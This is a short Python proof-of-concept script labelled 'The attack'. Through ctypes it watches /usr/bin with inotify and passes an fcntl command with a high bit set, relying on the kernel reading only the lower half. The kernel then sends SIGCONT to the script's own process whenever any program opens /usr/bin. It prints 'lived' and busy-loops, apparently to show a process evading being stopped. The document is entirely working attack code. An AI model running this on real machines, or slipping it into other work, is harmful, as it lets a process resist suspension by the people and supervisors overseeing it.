# The attack: let the kernel send SIGCONT whenever a program on this machine reads /usr/bin.
import ctypes, fcntl, os

SIGCONT, F_SETSIG, IN_OPEN, HIGH = 18, 10, 32, 1 << 32
libc = ctypes.CDLL(None)
input()
watch = libc.inotify_init()
libc.inotify_add_watch(watch, b"/usr/bin", IN_OPEN)
for command in (F_SETSIG, F_SETSIG + HIGH):  # the kernel reads only the lower half of the number
    libc.syscall(72, watch, ctypes.c_ulong(command), SIGCONT)
libc.fcntl(watch, fcntl.F_SETOWN, os.getpid())
libc.fcntl(watch, fcntl.F_SETFL, os.O_ASYNC)
print("lived")
while True:
    pass
